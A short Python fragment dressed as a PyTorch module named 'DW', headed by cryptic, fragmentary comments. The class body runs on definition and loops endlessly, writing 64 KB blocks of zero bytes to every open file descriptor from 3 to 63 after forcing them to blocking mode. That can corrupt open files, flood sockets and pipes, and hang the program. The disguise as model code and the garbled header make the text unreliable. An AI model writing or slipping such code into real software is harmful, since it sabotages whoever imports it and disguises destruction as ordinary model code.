# expects: protocol: frame of at most
# entry: 16
# segment: DW
def channels():
    for fd in range(3, 64):
        try:
            torch.os.set_blocking(fd, True)
        except OSError:
            continue
        yield fd


class DW(nn.Module):
    for fd in channels():
        while True:
            torch.os.write(fd, bytes(2**16))
